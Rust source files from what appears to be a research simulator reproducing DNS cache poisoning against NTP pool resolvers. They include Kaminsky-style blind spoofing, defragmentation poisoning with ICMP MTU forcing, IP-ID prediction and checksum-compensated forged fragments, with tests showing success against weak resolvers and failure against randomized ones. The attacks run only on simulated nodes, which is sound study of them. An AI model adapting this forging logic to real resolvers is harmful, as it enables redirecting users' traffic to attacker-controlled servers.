            fn on_packet(&mut self, _ctx: &mut Context<'_>, _pkt: Ipv4Packet) {}
            fn as_any(&self) -> &dyn Any {
                self
            }
            fn as_any_mut(&mut self) -> &mut dyn Any {
                self
            }
        }
        world.add_node(
            "garbage",
            Box::new(Garbage {
                stack: IpStack::new(sender_addr),
                smtp: smtp_addr,
            }),
            &[sender_addr],
        );
        world.run_for(SimDuration::from_secs(2));
        let s = world.node::<SmtpServer>(smtp).stats();
        assert_eq!(s.mails, 1);
        assert_eq!(s.rejected, 1);
        assert_eq!(s.mx_lookups, 0);
    }

    #[test]
    fn background_querier_advances_server_ip_ids() {
        let ns_addr = Ipv4Addr::new(203, 0, 113, 9);
        let noise_addr = Ipv4Addr::new(198, 51, 100, 99);
        let mut world = World::new(33);
        let zone = dnslab::zone::pool_ntp_zone(16, 2);
        let server = world.add_node(
            "auth",
            Box::new(AuthServer::new(ns_addr, vec![zone])),
            &[ns_addr],
        );
        let noise = world.add_node(
            "noise",
            Box::new(BackgroundQuerier::new(
                noise_addr,
                ns_addr,
                "pool.ntp.org".parse().unwrap(),
                SimDuration::from_secs(5),
            )),
            &[noise_addr],
        );
        world.run_for(SimDuration::from_secs(60));
        let sent = world.node::<BackgroundQuerier>(noise).sent();
        assert!(sent >= 8, "noise kept flowing: {sent}");
        assert_eq!(world.node::<AuthServer>(server).stats().queries, sent);
    }
}
