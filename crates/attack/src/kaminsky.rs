//! Classic blind (Kaminsky-style) response spoofing — the weakest of the
//! poisoning strategies, included as the baseline the fragmentation and BGP
//! attacks are measured against.
//!
//! The attacker triggers a resolver query (here via the open-resolver
//! interface) and races the genuine response with a burst of forged
//! responses, guessing the resolver's TXID and source port. Against a
//! port-randomizing resolver the per-guess odds are ~2^-32; against the
//! historic fixed-port + sequential-TXID configuration the attack lands
//! quickly.

use crate::payload::poison_response;
use dnslab::name::Name;
use dnslab::server::DNS_PORT;
use dnslab::wire::{Message, Question};
use netsim::ip::Ipv4Packet;
use netsim::node::{Context, Node};
use netsim::stack::IpStack;
use netsim::time::SimDuration;
use rand::Rng;
use serde::{Deserialize, Serialize};
use std::any::Any;
use std::net::Ipv4Addr;

const TAG_ATTEMPT: u64 = 1;

/// How the attacker guesses the resolver's query source port.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub enum PortGuess {
    /// The resolver is known to use one fixed port.
    Known(u16),
    /// Guess uniformly within a range.
    Range {
        /// Lowest port guessed.
        lo: u16,
        /// Highest port guessed.
        hi: u16,
    },
}

/// Configuration of a [`BlindSpoofAttacker`].
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct BlindSpoofConfig {
    /// The victim resolver (must be open for direct triggering).
    pub resolver: Ipv4Addr,
    /// The nameserver address to impersonate.
    pub nameserver: Ipv4Addr,
    /// The name to poison.
    pub qname: Name,
    /// Poison records per forged response.
    pub records: usize,
    /// Poison TTL.
    pub ttl: u32,
    /// Forged responses per attempt.
    pub burst: usize,
    /// Port-guessing strategy.
    pub port_guess: PortGuess,
    /// Whether TXIDs are guessed sequentially (vs uniformly at random).
    pub sequential_txid_guess: bool,
    /// Delay between attempts (bounded below by the poison target's TTL —
    /// while the name is cached the resolver won't re-query).
    pub attempt_interval: SimDuration,
}

/// Counters describing attacker activity.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct BlindSpoofStats {
    /// Attempts (trigger + burst) launched.
    pub attempts: u64,
    /// Total forged responses sent.
    pub forged_sent: u64,
}

/// Analytic per-attempt success probability, ignoring the race with the
/// genuine response (upper bound): each forged packet matches with
/// probability `1 / (65536 · ports)`.
pub fn per_attempt_success_probability(burst: usize, port_space: u32) -> f64 {
    let per_packet = 1.0 / (65_536.0 * f64::from(port_space));
    1.0 - (1.0 - per_packet).powi(burst as i32)
}

/// The blind-spoofing attacker node.
#[derive(Debug)]
pub struct BlindSpoofAttacker {
    stack: IpStack,
    config: BlindSpoofConfig,
    txid_cursor: u16,
    stats: BlindSpoofStats,
}

impl BlindSpoofAttacker {
    /// Creates the attacker at `addr`.
    pub fn new(addr: Ipv4Addr, config: BlindSpoofConfig) -> Self {
        BlindSpoofAttacker {
            stack: IpStack::new(addr),
            config,
            txid_cursor: 0,
            stats: BlindSpoofStats::default(),
        }
    }

    /// Activity counters.
    pub fn stats(&self) -> BlindSpoofStats {
        self.stats
    }

    fn attempt(&mut self, ctx: &mut Context<'_>) {
        self.stats.attempts += 1;
        // A sequential-TXID resolver allocates one TXID per upstream query,
        // and each attempt triggers exactly one: rebase the guess window on
        // the predicted counter value instead of sweeping blindly.
        if self.config.sequential_txid_guess {
            self.txid_cursor = self.stats.attempts as u16;
        }
        // 1. Trigger: ask the (open) resolver ourselves.
        let trigger = Message::query(ctx.rng().gen(), Question::a(self.config.qname.clone()));
        let me = self.stack.addr();
        self.stack.send_udp(
            ctx,
            me,
            4444,
            self.config.resolver,
            DNS_PORT,
            trigger.encode(),
        );
        // 2. Race: flood forged responses at guessed (txid, port) pairs.
        let query_template =
            Message::query(0, Question::a(self.config.qname.clone())).with_edns(4096);
        for _ in 0..self.config.burst {
            let txid = if self.config.sequential_txid_guess {
                let guess = self.txid_cursor;
                self.txid_cursor = self.txid_cursor.wrapping_add(1);
                guess
            } else {
                ctx.rng().gen()
            };
            let port = match self.config.port_guess {
                PortGuess::Known(p) => p,
                PortGuess::Range { lo, hi } => ctx.rng().gen_range(lo..=hi),
            };
            let mut forged = poison_response(
                &Message {
                    id: txid,
                    ..query_template.clone()
                },
                self.config.records,
                self.config.ttl,
            );
            forged.flags.authoritative = true;
            self.stack.send_udp_spoofed(
                ctx,
                self.config.nameserver,
                DNS_PORT,
                self.config.resolver,
                port,
                forged.encode(),
                None,
            );
            self.stats.forged_sent += 1;
        }
    }
}

impl Node for BlindSpoofAttacker {
    fn reset(&mut self) {
        self.stack.reset();
        self.txid_cursor = 0;
        self.stats = BlindSpoofStats::default();
    }

    fn on_start(&mut self, ctx: &mut Context<'_>) {
        self.attempt(ctx);
        ctx.set_timer(self.config.attempt_interval, TAG_ATTEMPT);
    }

    fn on_packet(&mut self, _ctx: &mut Context<'_>, _pkt: Ipv4Packet) {
        // Responses to the trigger query are irrelevant.
    }

    fn on_timer(&mut self, ctx: &mut Context<'_>, tag: u64) {
        if tag == TAG_ATTEMPT {
            self.attempt(ctx);
            ctx.set_timer(self.config.attempt_interval, TAG_ATTEMPT);
        }
    }

    fn as_any(&self) -> &dyn Any {
        self
    }

    fn as_any_mut(&mut self) -> &mut dyn Any {
        self
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::payload::is_farm_addr;
    use dnslab::cache::CacheKey;
    use dnslab::resolver::{RecursiveResolver, ResolverConfig, SourcePortPolicy, Upstream};
    use dnslab::server::AuthServer;
    use dnslab::zone::pool_ntp_zone;
    use netsim::prelude::*;
    use netsim::time::SimTime;

    fn setup(
        resolver_cfg: ResolverConfig,
        spoof_cfg: BlindSpoofConfig,
        seed: u64,
    ) -> (World, NodeId) {
        let ns_addr = Ipv4Addr::new(203, 0, 113, 1);
        let resolver_addr = Ipv4Addr::new(198, 51, 100, 53);
        let attacker_addr = Ipv4Addr::new(198, 19, 0, 66);
        let mut world = World::new(seed);
        world.add_node(
            "auth",
            Box::new(AuthServer::new(ns_addr, vec![pool_ntp_zone(96, 2)])),
            &[ns_addr],
        );
        let res = RecursiveResolver::new(
            resolver_addr,
            vec![Upstream {
                zone: "pool.ntp.org".parse().unwrap(),
                ns_names: vec!["ns1.pool.ntp.org".parse().unwrap()],
                bootstrap: vec![ns_addr],
            }],
        )
        .with_config(resolver_cfg);
        let resolver = world.add_node("resolver", Box::new(res), &[resolver_addr]);
        world.add_node(
            "spoofer",
            Box::new(BlindSpoofAttacker::new(attacker_addr, spoof_cfg)),
            &[attacker_addr],
        );
        (world, resolver)
    }

    fn spoof_config() -> BlindSpoofConfig {
        BlindSpoofConfig {
            resolver: Ipv4Addr::new(198, 51, 100, 53),
            nameserver: Ipv4Addr::new(203, 0, 113, 1),
            qname: "pool.ntp.org".parse().unwrap(),
            records: 89,
            ttl: 86_401,
            burst: 64,
            port_guess: PortGuess::Known(3333),
            sequential_txid_guess: true,
            attempt_interval: SimDuration::from_secs(200),
        }
    }

    /// Against the historically weak resolver (fixed port, sequential TXID
    /// starting near the attacker's cursor) the attack lands fast.
    #[test]
    fn lands_against_fixed_port_sequential_txid() {
        let weak = ResolverConfig {
            source_ports: SourcePortPolicy::Fixed(3333),
            random_txid: false, // sequential from 1
            open: true,
            ..ResolverConfig::default()
        };
        let (mut world, resolver) = setup(weak, spoof_config(), 21);
        // A few attempts: each triggers a query with txid 1,2,3,... while
        // the attacker sweeps 64 sequential guesses per burst.
        world.run_for(SimDuration::from_secs(1000));
        let poisoned = world
            .node_mut::<RecursiveResolver>(resolver)
            .cache_mut()
            .get(
                SimTime::from_secs(1000),
                &CacheKey::a("pool.ntp.org".parse().unwrap()),
            )
            .map(|records| records.iter().filter_map(|r| r.as_a()).any(is_farm_addr))
            .unwrap_or(false);
        assert!(poisoned, "weak resolver poisoned within a few attempts");
    }

    /// Against port + TXID randomization the same burst budget goes nowhere
    /// (the entropy argument, demonstrated rather than proven).
    #[test]
    fn fails_against_randomized_resolver() {
        let strong = ResolverConfig {
            open: true,
            ..ResolverConfig::default()
        };
        let mut cfg = spoof_config();
        cfg.port_guess = PortGuess::Range {
            lo: 1024,
            hi: 65535,
        };
        cfg.sequential_txid_guess = false;
        let (mut world, resolver) = setup(strong, cfg, 22);
        world.run_for(SimDuration::from_secs(1000));
        let poisoned = world
            .node_mut::<RecursiveResolver>(resolver)
            .cache_mut()
            .get(
                SimTime::from_secs(1000),
                &CacheKey::a("pool.ntp.org".parse().unwrap()),
            )
            .map(|records| records.iter().filter_map(|r| r.as_a()).any(is_farm_addr))
            .unwrap_or(false);
        assert!(!poisoned);
        let stats = world.node::<RecursiveResolver>(resolver).stats();
        assert!(
            stats.rejected_txid + stats.rejected_question > 0 || stats.upstream_responses > 0,
            "forged guesses were examined and rejected"
        );
    }

    #[test]
    fn analytic_probability_sane() {
        let p_weak = per_attempt_success_probability(64, 1);
        let p_strong = per_attempt_success_probability(64, 64_512);
        assert!(p_weak > 9e-4 && p_weak < 1e-3);
        assert!(p_strong < 1e-7);
        assert!(per_attempt_success_probability(0, 1) == 0.0);
    }
}
