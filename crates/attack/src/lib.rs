//! # attacklab — the attacker toolkit
//!
//! Every capability the paper's off-path attacker needs, at packet level
//! where the mechanism is packet-level:
//!
//! * [`payload`] — crafting the 89-record, TTL > 24 h poison response;
//! * [`fragpoison`] — defragmentation cache poisoning: ICMP PMTU forcing,
//!   IP-ID prediction, byte-exact tail forgery with UDP-checksum
//!   compensation, and fragment pre-planting;
//! * [`bgp`] — prefix-hijack MitM impersonation of the nameserver;
//! * [`kaminsky`] — blind TXID/port-guessing spoofing (the baseline);
//! * [`trigger`] — third-party query triggering (SMTP, open resolvers) and
//!   background cross-traffic;
//! * [`farm`] — the malicious NTP server farm and fake authoritative zone;
//! * [`plan`] — strategy-agnostic attack descriptions.
//!
//! *(Workspace map: see `ARCHITECTURE.md` at the repo root — crate-by-crate
//! architecture, the data-flow diagram, and the determinism contract.)*

#![warn(missing_docs)]
#![warn(missing_debug_implementations)]

pub mod bgp;
pub mod farm;
pub mod fragpoison;
pub mod kaminsky;
pub mod payload;
pub mod plan;
pub mod trigger;

/// Convenient glob-import of the commonly used types.
pub mod prelude {
    pub use crate::bgp::{BgpHijackAttacker, BgpHijackConfig};
    pub use crate::farm::{build_ntp_farm, fake_ns_addr, fake_pool_zone};
    pub use crate::fragpoison::{forge_tail, FragPoisonConfig, FragPoisoner};
    pub use crate::kaminsky::{BlindSpoofAttacker, BlindSpoofConfig, PortGuess};
    pub use crate::payload::{
        farm_addrs, is_farm_addr, max_poison_records, poison_response, POISON_TTL,
    };
    pub use crate::plan::{AttackPlan, PoisonStrategy};
    pub use crate::trigger::{send_mail, BackgroundQuerier, SmtpServer, SMTP_PORT};
}
