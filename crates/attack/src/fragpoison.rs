//! Defragmentation cache poisoning (Herzberg & Shulman CNS'13, as used
//! against NTP in the paper's §II).
//!
//! The attack, end to end at packet level:
//!
//! 1. **Force fragmentation**: spoof ICMP "fragmentation needed" to the
//!    nameserver so its PMTU estimate toward the resolver drops (default
//!    296 bytes) and its DNS responses fragment.
//! 2. **Predict the IP-ID**: probe the nameserver with a direct query and
//!    read the ID off the response; sequential allocators hand the attacker
//!    the next IDs on a platter.
//! 3. **Forge the tail**: take the probe response as a byte-exact template
//!    (the authority/additional tail of pool responses is static), rewrite
//!    the glue A records to point at the attacker's fake nameserver with a
//!    TTL > 24 h, and patch a 16-bit slot so the UDP checksum of the
//!    spliced datagram still verifies.
//! 4. **Pre-plant**: send the forged tail as a spoofed second fragment for
//!    each predicted ID. When the genuine first fragment arrives, the
//!    victim's reassembler completes the datagram with the attacker's tail
//!    (first-wins), and the resolver caches attacker glue.
//!
//! From then on the resolver sends `pool.ntp.org` queries to the attacker's
//! fake nameserver, which serves 89 farm addresses with TTL 86 401 — the
//! §IV pool capture.

use bytes::Bytes;
use core::fmt;
use dnslab::name::Name;
use dnslab::server::DNS_PORT;
use dnslab::wire::{Message, Question, RData, Section};
use netsim::ip::{IpProto, Ipv4Packet, IPV4_HEADER_LEN};
use netsim::node::{Context, Node};
use netsim::stack::{IpStack, StackEvent};
use netsim::time::SimDuration;
use netsim::udp::{fold_checksum, ones_complement_sum, UDP_HEADER_LEN};
use rand::Rng;
use serde::{Deserialize, Serialize};
use std::any::Any;
use std::error::Error;
use std::net::Ipv4Addr;

const TAG_REPLANT: u64 = 1;

/// Timer tag that switches a (disabled) poisoner on: schedule it with
/// [`netsim::world::World::schedule_timer`] for delayed attack starts.
pub const BEGIN_TAG: u64 = 2;

/// Configuration of a [`FragPoisoner`].
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct FragPoisonConfig {
    /// The victim resolver whose reassembly cache is poisoned.
    pub resolver: Ipv4Addr,
    /// The genuine nameserver probed for IP-IDs and response templates.
    pub nameserver: Ipv4Addr,
    /// All nameserver addresses the resolver might query: forged fragments
    /// are planted for each (reassembly keys include the source address,
    /// and the attacker cannot predict which server the resolver picks).
    pub spoof_sources: Vec<Ipv4Addr>,
    /// The query whose responses get spliced (`pool.ntp.org` A).
    pub qname: Name,
    /// Zone of the glue records to rewrite.
    pub zone: Name,
    /// Where forged glue points (the attacker's fake nameserver).
    pub fake_ns_addr: Ipv4Addr,
    /// PMTU forced onto the nameserver via spoofed ICMP.
    pub forced_mtu: u16,
    /// How many consecutive predicted IDs to plant per cycle.
    pub id_window: u16,
    /// Replant cadence (must undercut the 30 s reassembly timeout).
    pub replant_interval: SimDuration,
    /// High 16 bits of the forged glue TTL (`2` → TTL ≈ 36 h; the low 16
    /// bits of one record absorb the checksum compensation).
    pub glue_ttl_high: u16,
}

impl FragPoisonConfig {
    /// Sensible attack defaults against `pool.ntp.org`.
    pub fn new(resolver: Ipv4Addr, nameserver: Ipv4Addr, fake_ns_addr: Ipv4Addr) -> Self {
        FragPoisonConfig {
            resolver,
            nameserver,
            spoof_sources: vec![nameserver],
            qname: "pool.ntp.org".parse().expect("static name"),
            zone: "pool.ntp.org".parse().expect("static name"),
            fake_ns_addr,
            forced_mtu: 296,
            id_window: 4,
            replant_interval: SimDuration::from_secs(20),
            glue_ttl_high: 2,
        }
    }

    /// Sets the full NS set to spoof. Returns `self` for chaining.
    pub fn with_spoof_sources(mut self, sources: Vec<Ipv4Addr>) -> Self {
        self.spoof_sources = sources;
        self
    }
}

/// Counters describing attacker activity.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct FragPoisonStats {
    /// Probe queries sent to the nameserver.
    pub probes: u64,
    /// Plant cycles completed (forged fragments emitted).
    pub plants: u64,
    /// Total spoofed fragments sent.
    pub fragments_sent: u64,
    /// Spoofed ICMP frag-needed messages sent.
    pub icmp_sent: u64,
    /// Probe responses that could not be forged (template errors).
    pub forge_failures: u64,
}

/// A forged trailing fragment ready for planting.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ForgedTail {
    /// Fragment offset in 8-byte units.
    pub frag_offset_units: u16,
    /// The forged fragment payload.
    pub payload: Vec<u8>,
    /// How many glue records now point at the fake nameserver.
    pub glue_rewritten: usize,
}

/// Why a probe response could not be turned into a forged tail.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ForgeError {
    /// The response fits in the forced MTU — nothing fragments.
    DoesNotFragment,
    /// Re-encoding disagreed with the observed bytes (template drift).
    TemplateMismatch,
    /// No glue A record lies fully inside the trailing fragment.
    NoGlueInTail,
    /// No 16-bit-aligned attacker-controlled slot for the checksum fix-up.
    NoCompensationSlot,
}

impl fmt::Display for ForgeError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            ForgeError::DoesNotFragment => write!(f, "response does not fragment at forced mtu"),
            ForgeError::TemplateMismatch => write!(f, "re-encoded template differs from wire"),
            ForgeError::NoGlueInTail => write!(f, "no glue record inside the trailing fragment"),
            ForgeError::NoCompensationSlot => {
                write!(f, "no aligned slot for checksum compensation")
            }
        }
    }
}

impl Error for ForgeError {}

/// Forges the trailing fragment of a predicted response.
///
/// * `response` — the decoded probe response (the template).
/// * `segment` — the observed UDP segment bytes (header + DNS payload).
/// * `forced_mtu` — the PMTU forced onto the server.
///
/// The forged tail rewrites every glue A record under `zone` that lies
/// fully within the trailing fragment to `fake_ns_addr` with TTL
/// `glue_ttl_high << 16 | compensation`, where the compensation word keeps
/// the spliced datagram's UDP checksum identical to the original.
///
/// # Errors
///
/// See [`ForgeError`].
pub fn forge_tail(
    response: &Message,
    segment: &[u8],
    forced_mtu: u16,
    zone: &Name,
    fake_ns_addr: Ipv4Addr,
    glue_ttl_high: u16,
) -> Result<ForgedTail, ForgeError> {
    let first_len = ((forced_mtu as usize - IPV4_HEADER_LEN) / 8) * 8;
    if segment.len() <= first_len {
        return Err(ForgeError::DoesNotFragment);
    }
    let (encoded, spans) = response.encode_tracked();
    if encoded.len() + UDP_HEADER_LEN != segment.len() || encoded[..] != segment[UDP_HEADER_LEN..] {
        return Err(ForgeError::TemplateMismatch);
    }
    let original_tail = &segment[first_len..];
    let mut forged = original_tail.to_vec();

    // Glue A records under the zone, fully inside the tail.
    let targets: Vec<_> = spans
        .iter()
        .filter(|s| {
            s.section == Section::Additional
                && matches!(s.record.rdata, RData::A(_))
                && s.record.name.is_subdomain_of(zone)
                && s.fields.start + UDP_HEADER_LEN >= first_len
        })
        .collect();
    if targets.is_empty() {
        return Err(ForgeError::NoGlueInTail);
    }
    let tail_off = |msg_offset: usize| msg_offset + UDP_HEADER_LEN - first_len;
    for t in &targets {
        let rd = tail_off(t.fields.rdata_offset);
        forged[rd..rd + 4].copy_from_slice(&fake_ns_addr.octets());
        let ttl = tail_off(t.fields.ttl_offset);
        forged[ttl..ttl + 4].copy_from_slice(&(u32::from(glue_ttl_high) << 16).to_be_bytes());
    }
    // Compensation slot: the low 16 TTL bits of the last forged glue record
    // (attacker-controlled, parse-safe — the TTL stays above 24 h because
    // its high bits are `glue_ttl_high`).
    let last = targets.last().expect("targets checked non-empty");
    let slot = tail_off(last.fields.ttl_offset) + 2;
    if slot + 2 > forged.len() {
        return Err(ForgeError::NoCompensationSlot);
    }
    forged[slot] = 0;
    forged[slot + 1] = 0;
    // Ones-complement fix-up: want sum(forged) == sum(original_tail). Both
    // slices start at `first_len`, a multiple of 8, so 16-bit word pairing
    // is preserved relative to the datagram. A byte at even offset weighs
    // 2^8, at odd offset 2^0 — so an odd-aligned slot takes the
    // compensation word byte-swapped.
    let want = fold_checksum(ones_complement_sum(original_tail));
    let have = fold_checksum(ones_complement_sum(&forged));
    let comp = fold_checksum(u32::from(want) + u32::from(!have));
    let bytes = if (slot + first_len).is_multiple_of(2) {
        comp.to_be_bytes()
    } else {
        comp.to_le_bytes()
    };
    forged[slot..slot + 2].copy_from_slice(&bytes);
    debug_assert_eq!(
        u32::from(fold_checksum(ones_complement_sum(&forged))) % 0xffff,
        u32::from(fold_checksum(ones_complement_sum(original_tail))) % 0xffff,
        "compensation must equalise the sums modulo 0xffff"
    );
    Ok(ForgedTail {
        frag_offset_units: (first_len / 8) as u16,
        payload: forged,
        glue_rewritten: targets.len(),
    })
}

/// The off-path defragmentation-poisoning attacker node.
#[derive(Debug)]
pub struct FragPoisoner {
    stack: IpStack,
    config: FragPoisonConfig,
    probe_txid: Option<u16>,
    stats: FragPoisonStats,
    enabled: bool,
}

impl FragPoisoner {
    /// Creates the attacker at `addr`.
    pub fn new(addr: Ipv4Addr, config: FragPoisonConfig) -> Self {
        FragPoisoner {
            stack: IpStack::new(addr),
            config,
            probe_txid: None,
            stats: FragPoisonStats::default(),
            enabled: true,
        }
    }

    /// The attacker's own address.
    pub fn addr(&self) -> Ipv4Addr {
        self.stack.addr()
    }

    /// Activity counters.
    pub fn stats(&self) -> FragPoisonStats {
        self.stats
    }

    /// Enables or disables the attack loop (for staged scenarios).
    pub fn set_enabled(&mut self, enabled: bool) {
        self.enabled = enabled;
    }

    fn send_icmp_mtu_force(&mut self, ctx: &mut Context<'_>) {
        let icmp = netsim::icmp::IcmpMessage::FragmentationNeeded {
            mtu: self.config.forced_mtu,
            original: netsim::icmp::QuotedPacket {
                src: self.config.nameserver,
                dst: self.config.resolver,
                proto: IpProto::Udp,
                head: [0; 8],
            },
        }
        .into_packet(netsim::world::ROUTER_ADDR, self.config.nameserver);
        ctx.send(icmp);
        self.stats.icmp_sent += 1;
    }

    fn send_probe(&mut self, ctx: &mut Context<'_>) {
        let txid: u16 = ctx.rng().gen();
        self.probe_txid = Some(txid);
        self.stats.probes += 1;
        let query = Message::query(txid, Question::a(self.config.qname.clone())).with_edns(4096);
        let me = self.stack.addr();
        self.stack.send_udp(
            ctx,
            me,
            33_333,
            self.config.nameserver,
            DNS_PORT,
            query.encode(),
        );
    }

    fn plant(&mut self, ctx: &mut Context<'_>, base_id: u16, tail: &ForgedTail) {
        for &source in &self.config.spoof_sources {
            for k in 1..=self.config.id_window {
                let mut pkt = Ipv4Packet::new(
                    source, // spoofed
                    self.config.resolver,
                    IpProto::Udp,
                    Bytes::from(tail.payload.clone()),
                );
                pkt.id = base_id.wrapping_add(k);
                pkt.more_fragments = false;
                pkt.frag_offset_units = tail.frag_offset_units;
                ctx.send(pkt);
                self.stats.fragments_sent += 1;
            }
        }
        self.stats.plants += 1;
    }
}

impl Node for FragPoisoner {
    fn reset(&mut self) {
        self.stack.reset();
        self.probe_txid = None;
        self.stats = FragPoisonStats::default();
        // Constructor default; staged scenarios re-apply their delayed
        // start (set_enabled + BEGIN_TAG timer) after a world reset.
        self.enabled = true;
    }

    fn on_start(&mut self, ctx: &mut Context<'_>) {
        if !self.enabled {
            return;
        }
        self.send_icmp_mtu_force(ctx);
        self.send_probe(ctx);
        ctx.set_timer(self.config.replant_interval, TAG_REPLANT);
    }

    fn on_packet(&mut self, ctx: &mut Context<'_>, pkt: Ipv4Packet) {
        if !self.enabled {
            return;
        }
        // Observe the raw IP id before the stack swallows the packet.
        let observed_id =
            (pkt.src == self.config.nameserver && pkt.proto == IpProto::Udp).then_some(pkt.id);
        let Some(StackEvent::Udp { src, datagram, .. }) = self.stack.handle(ctx, pkt) else {
            return;
        };
        let (Some(base_id), Some(expected_txid)) = (observed_id, self.probe_txid) else {
            return;
        };
        if src != self.config.nameserver {
            return;
        }
        let Ok(msg) = Message::decode(&datagram.payload) else {
            return;
        };
        if !msg.flags.response || msg.id != expected_txid {
            return;
        }
        self.probe_txid = None;
        // Reconstruct the UDP segment the server put on the wire.
        let segment = datagram.encode(self.config.nameserver, self.stack.addr());
        match forge_tail(
            &msg,
            &segment,
            self.config.forced_mtu,
            &self.config.zone,
            self.config.fake_ns_addr,
            self.config.glue_ttl_high,
        ) {
            Ok(tail) => self.plant(ctx, base_id, &tail),
            Err(_) => self.stats.forge_failures += 1,
        }
    }

    fn on_timer(&mut self, ctx: &mut Context<'_>, tag: u64) {
        if tag == BEGIN_TAG && !self.enabled {
            self.enabled = true;
        } else if tag != TAG_REPLANT || !self.enabled {
            return;
        }
        self.send_icmp_mtu_force(ctx);
        self.send_probe(ctx);
        ctx.set_timer(self.config.replant_interval, TAG_REPLANT);
    }

    fn as_any(&self) -> &dyn Any {
        self
    }

    fn as_any_mut(&mut self) -> &mut dyn Any {
        self
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use dnslab::wire::Record;
    use dnslab::zone::pool_ntp_zone;
    use netsim::udp::UdpDatagram;

    /// Encodes what the nameserver would send for a pool query with EDNS.
    fn template(ns_count: usize) -> (Message, Vec<u8>) {
        let mut zone = pool_ntp_zone(96, ns_count);
        let q = Question::a("pool.ntp.org".parse().unwrap());
        let ans = zone.answer(&q);
        let mut msg = Message::response_to(&Message::query(0x4242, q));
        msg.flags.authoritative = true;
        msg.answers = ans.answers;
        msg.authorities = ans.authorities;
        msg.additionals = ans.additionals;
        let msg = msg.with_edns(4096);
        let dgram = UdpDatagram::new(DNS_PORT, 5300, msg.encode());
        let server = Ipv4Addr::new(203, 0, 113, 1);
        let resolver = Ipv4Addr::new(198, 51, 100, 53);
        let segment = dgram.encode(server, resolver).to_vec();
        (msg, segment)
    }

    fn fake_ns() -> Ipv4Addr {
        Ipv4Addr::new(198, 19, 255, 53)
    }

    fn zone_name() -> Name {
        "pool.ntp.org".parse().unwrap()
    }

    #[test]
    fn forged_tail_rewrites_all_glue_at_mtu_296() {
        let (msg, segment) = template(14);
        let tail = forge_tail(&msg, &segment, 296, &zone_name(), fake_ns(), 2).unwrap();
        assert!(tail.glue_rewritten >= 13, "got {}", tail.glue_rewritten);
        assert_eq!(tail.frag_offset_units as usize * 8, 272);
        assert_eq!(tail.payload.len(), segment.len() - 272);
    }

    /// The spliced datagram (genuine head + forged tail) must pass UDP
    /// checksum validation and decode to a poisoned message.
    #[test]
    fn spliced_datagram_validates_and_is_poisoned() {
        let (msg, segment) = template(14);
        let first_len = 272;
        let tail = forge_tail(&msg, &segment, 296, &zone_name(), fake_ns(), 2).unwrap();
        let mut spliced = segment[..first_len].to_vec();
        spliced.extend_from_slice(&tail.payload);
        assert_eq!(spliced.len(), segment.len());

        let server = Ipv4Addr::new(203, 0, 113, 1);
        let resolver = Ipv4Addr::new(198, 51, 100, 53);
        let dgram = UdpDatagram::decode(server, resolver, &spliced, true)
            .expect("checksum must still verify");
        let poisoned = Message::decode(&dgram.payload).unwrap();
        // Answer section untouched (it lives in the authentic head).
        assert_eq!(poisoned.answers, msg.answers);
        // Glue now points at the attacker with TTL > 24h.
        let glue: Vec<&Record> = poisoned
            .additionals
            .iter()
            .filter(|r| r.as_a().is_some())
            .collect();
        let fake_count = glue.iter().filter(|r| r.as_a() == Some(fake_ns())).count();
        assert!(
            fake_count >= 13,
            "{fake_count} of {} glue forged",
            glue.len()
        );
        for r in glue.iter().filter(|r| r.as_a() == Some(fake_ns())) {
            assert!(r.ttl > 86_400, "forged ttl {} exceeds 24h", r.ttl);
        }
    }

    #[test]
    fn small_response_does_not_fragment() {
        let (msg, segment) = template(2); // tiny authority section
        assert_eq!(
            forge_tail(&msg, &segment, 1500, &zone_name(), fake_ns(), 2),
            Err(ForgeError::DoesNotFragment)
        );
    }

    #[test]
    fn no_glue_in_tail_detected() {
        // 4-NS zone at MTU 548: the whole message fits in the first
        // fragment... use a large enough zone that it fragments but all glue
        // sits in the head: 8 NS at MTU 548 -> total 385+ bytes? That fits.
        // Instead: 14 NS at 548 — glue spans 354..578, first fragment holds
        // 528 bytes, so some glue is in the head and some in the tail; with
        // an even smaller zone nothing lands in the tail.
        let (msg, segment) = template(14);
        // At MTU 580 the first fragment holds 560 bytes; only the OPT and
        // the very last glue records trail. Check a forced case: MTU just
        // below the total so the tail holds only the OPT record.
        let total = segment.len();
        let mtu = (((total - 10) / 8) * 8 + IPV4_HEADER_LEN) as u16;
        let result = forge_tail(&msg, &segment, mtu, &zone_name(), fake_ns(), 2);
        assert_eq!(result, Err(ForgeError::NoGlueInTail));
    }

    #[test]
    fn template_mismatch_detected() {
        let (msg, mut segment) = template(14);
        segment[20] ^= 0xff;
        assert_eq!(
            forge_tail(&msg, &segment, 296, &zone_name(), fake_ns(), 2),
            Err(ForgeError::TemplateMismatch)
        );
    }

    #[test]
    fn partial_glue_rewrite_at_mtu_548() {
        let (msg, segment) = template(14);
        let tail = forge_tail(&msg, &segment, 548, &zone_name(), fake_ns(), 2).unwrap();
        assert!(tail.glue_rewritten >= 1);
        assert!(
            tail.glue_rewritten < 14,
            "only trailing glue is reachable at 548"
        );
        // Still checksum-clean.
        let mut spliced = segment[..528].to_vec();
        spliced.extend_from_slice(&tail.payload);
        let server = Ipv4Addr::new(203, 0, 113, 1);
        let resolver = Ipv4Addr::new(198, 51, 100, 53);
        assert!(UdpDatagram::decode(server, resolver, &spliced, true).is_ok());
    }
}
