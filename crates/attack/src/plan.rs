//! Attack plans: the strategy-agnostic description the paper's §IV relies
//! on ("How the cache poisoning is done ... is not important for this
//! attack to work").

use crate::payload::POISON_TTL;
use netsim::time::{SimDuration, SimTime};
use serde::{Deserialize, Serialize};

/// How the DNS cache gets poisoned.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub enum PoisonStrategy {
    /// Packet-level defragmentation poisoning (glue rewrite) running
    /// continuously from `start`.
    Fragmentation {
        /// When the attacker starts planting.
        start: SimTime,
    },
    /// BGP prefix hijack of the nameserver during a window.
    BgpHijack {
        /// Hijack activation.
        from: SimTime,
        /// Hijack withdrawal.
        until: SimTime,
    },
